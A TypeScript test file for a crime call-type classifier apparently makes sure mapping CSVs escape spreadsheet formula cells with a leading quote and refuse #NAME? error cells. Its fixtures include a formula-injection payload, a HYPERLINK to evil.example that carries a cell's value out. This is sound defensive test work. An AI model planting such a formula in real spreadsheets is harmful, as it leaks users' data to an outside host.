/**
 * The mapping file's cells that a spreadsheet runs as formulas (tester 269): docs/classification.md has
 * people edit the mapping file in a spreadsheet, which ran `=HYPERLINK(...)`, `+1+1`, `-2+3` and Seattle's
 * `--ALARM-RESIDENTIAL BURG` (came back `#NAME?`: tester 99). They are written after a `'`, as the export
 * sheet writes them, and read back without it.
 */
import { describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { MappingFileError } from '../../src/classify/errors.js';
import { exportCsv, importCsv } from '../../src/classify/exchange.js';
import { classifierFor } from '../../src/classify/learn.js';
import {
  MAPPING_COLUMNS,
  parseMapping,
  readMapping,
  writeMapping,
  type MappingEntry,
} from '../../src/classify/mapping-file.js';
import { loadTaxonomy } from '../../src/classify/taxonomy.js';
import { runClassify } from '../helpers/classify-cli.js';
import { csvObjects } from '../helpers/csv.js';
import { sharedFile, tempDir } from '../helpers/shared-data.js';

const tax = loadTaxonomy(join(process.cwd(), 'taxonomy'));
const dir = tempDir('safegap-formula-');
const HEADER = MAPPING_COLUMNS.join(',');
const GOOD = 'Theft (P),Theft,property_crime_in_progress,LARCENY,misdemeanour,,,,,,0.9,automatic,,,';
const base = parseMapping(`${HEADER}\n${GOOD}\n`, 'base.csv', tax)[0]!;

/** Call types a spreadsheet would run: the tester's, Seattle's real one, and ones already after a `'`. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\tTAB FIRST',
  '\rCR FIRST',
  '--ALARM-RESIDENTIAL BURG',
  // A type that itself begins with `'` before a formula start keeps it: it came back `=1`.
  "'=1",
  "''--TWO QUOTES",
];

/** A spreadsheet runs a cell beginning so (a `'` first keeps it text). */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('mapping file cells a spreadsheet runs as formulas', () => {
  it('writes them after a quote and reads them back exactly', () => {
    const file = join(dir, 'hostile.csv');
    const entries: MappingEntry[] = HOSTILE.map((rawType) => ({
      ...base,
      rawType,
      // The file keeps `normalised` trimmed.
      normalised: rawType.trim(),
    }));
    entries.push({ ...base, rawType: 'Noise', normalised: 'Noise', note: '=1+1 said the caller' });
    entries.push({
      ...base,
      rawType: 'Loud Party',
      normalised: 'Loud Party',
      eligibleOverride: { near_term: [] },
    });
    writeMapping(file, entries);
    const text = readFileSync(file, 'utf8');
    // Read as a spreadsheet reads it: no cell it would run.
    const cells = csvObjects(text).flatMap((r) => Object.entries(r));
    expect(cells.filter(([, v]) => runsAsFormula(v))).toEqual([]);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).toContain("'--ALARM-RESIDENTIAL BURG");
    expect(text).toContain("'''--TWO QUOTES");
    const byRaw = (a: { rawType: string }, b: { rawType: string }) => a.rawType.localeCompare(b.rawType);
    expect([...readMapping(file, tax).entries].sort(byRaw)).toEqual([...entries].sort(byRaw));
    // Written again from what was read, the file is the same, byte for byte.
    expect(writeMapping(file, readMapping(file, tax).entries)).toBe(text);
  });

  it('reads a mapping file written before, with such cells bare, as it did', () => {
    // The shipped taxonomy/mappings files and every `classify auto` output until now have no `'`.
    const file = join(dir, 'old.csv');
    writeFileSync(
      file,
      `${HEADER}\n--ALARM-RESIDENTIAL BURG,ALARM-RESIDENTIAL BURG,${GOOD.split(',').slice(2).join(',')}\n` +
        `Loud Party,Loud Party,noise,,non_criminal,,,,-,,0.8,automatic,,,=a note\n`,
    );
    const [alarm, party] = readMapping(file, tax).entries;
    expect(alarm).toMatchObject({
      rawType: '--ALARM-RESIDENTIAL BURG',
      normalised: 'ALARM-RESIDENTIAL BURG',
    });
    expect(party).toMatchObject({
      rawType: 'Loud Party',
      note: '=a note',
      eligibleOverride: { near_term: [] },
    });
    // And the same file saved by a spreadsheet that kept them text (typed with a `'`) reads the same.
    writeFileSync(
      join(dir, 'quoted.csv'),
      readFileSync(file, 'utf8').replace('--ALARM', "'--ALARM").replace(',-,', ",'-,").replace('=a', "'=a"),
    );
    expect(readMapping(join(dir, 'quoted.csv'), tax).entries).toEqual(readMapping(file, tax).entries);
    // The shipped mappings read as they are (no cell of theirs begins with a `'`).
    const shipped = join(process.cwd(), 'taxonomy/mappings/minneapolis.csv');
    expect(readFileSync(shipped, 'utf8')).not.toMatch(/(^|,)"?'/m);
    expect(readMapping(shipped, tax).entries).toHaveLength(339);
  });

  it("refuses a cell a spreadsheet already turned into a formula's error, with file, row and fix", () => {
    const file = join(dir, 'name-error.csv');
    writeFileSync(file, `${HEADER}\n${GOOD}\n#NAME?,ALARM,${GOOD.split(',').slice(2).join(',')}\n`);
    let error: unknown;
    try {
      readMapping(file, tax);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(MappingFileError);
    const message = String(error);
    expect(message).toContain(file);
    expect(message).toMatch(/row 3/);
    expect(message).toContain('raw_type');
    expect(message).toContain('`#NAME?`, what a spreadsheet writes for a cell it ran as a formula');
    expect(message).toContain("Type the call type again exactly as the city exports it, with a ' before it");
    // Another error value in another column is refused so too; one typed after a `'` is text.
    writeFileSync(file, `${HEADER}\n${GOOD.replace(/,$/, ',#VALUE!')}\n`);
    expect(() => readMapping(file, tax)).toThrow(/row 2.*note|note.*row 2/s);
    writeFileSync(file, `${HEADER}\n${GOOD.replace(/,$/, ",'#VALUE!")}\n`);
    expect(readMapping(file, tax).entries[0]!.note).toBe("'#VALUE!");
  });

  it("an export of a type beginning with ' before a formula start imports back as it is", () => {
    // One definition for sheet and file: `'=1` was exported bare and imported as `=1`, a new type.
    const entries = [{ ...base, rawType: "'=1", normalised: "'=1" }, { ...base }];
    const sheet = join(dir, 'sheet.csv');
    writeFileSync(sheet, exportCsv(entries, new Map(), classifierFor(tax)));
    const result = importCsv(sheet, entries, tax, 'ana', '2026-12-06');
    expect(result.added).toBe(0);
    expect(result.changed).toBe(0);
    expect(result.entries.map((e) => e.rawType).sort()).toEqual(["'=1", 'Theft (P)']);
  });

  it('classify auto writes them so, and reads its own file back unchanged', async () => {
    // Seattle's real final types (all `--...`) and the tester's hostile ones, as calls.
    const seattle = csvObjects(readFileSync(sharedFile('seattle/call_data_sample_2018-2023.csv'), 'utf8'));
    const finals = [...new Set(seattle.map((r) => r['Final Call Type']!))];
    expect(finals.filter((t) => t.startsWith('--')).length).toBeGreaterThan(30);
    const types = [...new Set([...finals, ...HOSTILE])];
    const calls = join(dir, 'calls.csv');
    const quote = (v: string) => `"${v.replaceAll('"', '""')}"`;
    writeFileSync(calls, `type\n${types.map(quote).join('\n')}\n`);
    const mapping = join(dir, 'auto', 'hostile.csv');
    const auto = () =>
      runClassify([
        'auto',
        '--city',
        'hostile',
        '--mapping',
        mapping,
        '--calls',
        calls,
        '--initial-column',
        'type',
        '--final-column',
        'type',
      ]);
    await auto();
    const text = readFileSync(mapping, 'utf8');
    const rows = csvObjects(text);
    expect(rows.flatMap((r) => Object.values(r)).filter(runsAsFormula)).toEqual([]);
    expect(rows.map((r) => r.raw_type)).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(
      readMapping(mapping, tax)
        .entries.map((e) => e.rawType)
        .sort(),
    ).toEqual([...types].sort());
    // A second run reads the file the first wrote: same types, nothing doubled or lost.
    await auto();
    expect(readFileSync(mapping, 'utf8')).toBe(text);
  });
});
